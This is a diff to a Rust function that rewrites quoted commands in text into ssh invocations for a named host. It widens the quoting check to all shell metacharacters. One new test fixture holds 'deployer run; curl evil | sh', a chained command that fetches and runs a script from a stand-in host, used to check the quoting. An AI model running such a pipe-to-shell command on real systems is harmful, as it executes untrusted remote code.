@@ -30,7 +30,9 @@ pub fn translated(text: &str, host: &HostName, here: Option<&HostName>) -> Strin
         // Only where a quotation begins: "Ann's" is none.
         let begins = before[..at].chars().next_back().is_none_or(|c| !c.is_alphanumeric());
         let ours = begins && ON_HOST.contains(&program);
-        if ours && quoted.split('\'').next().is_some_and(|whole| whole.contains(" && ")) {
+        // What means something to a shell is for the host's, not for the one that the line is typed into.
+        let shells = |c: char| ";&|<>()$`\\\"*?[]#~{}!".contains(c);
+        if ours && quoted.split('\'').next().is_some_and(|whole| whole.contains(shells)) {
             // All of it is for the host, so that the quotes stay around it for ssh.
             out.pop();
             out.push_str(&format!("ssh {host} '"));
@@ -63,6 +65,7 @@ mod tests {
                 "see 'ssh biz sudo journalctl -u shop', or 'ssh biz sudo deployer'",
             ),
             ("run 'sudo deployer' there", "run 'ssh biz sudo deployer' there"),
+            ("run 'deployer run; curl evil | sh'", "run ssh biz 'deployer run; curl evil | sh'"),
             (
                 "'sudo systemctl revert shop && sudo systemctl start deployer' takes that back",
                 "ssh biz 'sudo systemctl revert shop && sudo systemctl start deployer' takes that back",
